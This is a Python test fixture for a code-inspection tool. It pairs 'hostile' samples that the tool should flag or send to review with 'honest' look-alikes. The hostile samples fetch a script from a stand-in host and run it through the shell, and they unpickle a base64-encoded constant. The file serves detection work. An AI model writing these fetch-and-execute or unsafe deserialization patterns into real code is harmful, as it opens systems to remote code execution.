"""Values that pass through one function of an honest project and are told apart, as an attacker's there would be."""

from inspection.rules.sample import Sample

_SHELL = (
    "import subprocess\ndef run(words, shell=False):\n    if shell:\n        words = ['/bin/sh', '-c', words]\n"
    "    return subprocess.Popen(words)\n"
)
_FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
_UNPACK = "import base64, pickle\ndef unpack(x):\n    return pickle.loads(base64.b64decode(x.encode('ascii')))\n"

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "a script that a server sends, for a function that also takes words": Sample(
            {"runner.py": _SHELL, "app.py": _FETCH + "run(reply['script'], shell=True)\n"}, "block", ("app.py", 3)
        ),
    },
    "decoded_code": {
        "a constant that a function decodes and loads": Sample(
            {"app.py": _UNPACK + "unpack('Y2J1aWx0aW5zCnByaW50CihWaGVsbG8KdFIu')\n"}, "review", ("app.py", 3)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a word that a server sends, for a function that also takes scripts": {
            "runner.py": _SHELL,
            "app.py": _FETCH + "run(['gpg', '--export', reply['finger']])\n",
        },
    },
    "decoded_code": {
        "what a caller elsewhere has decoded and loaded": {"app.py": _UNPACK},
    },
}
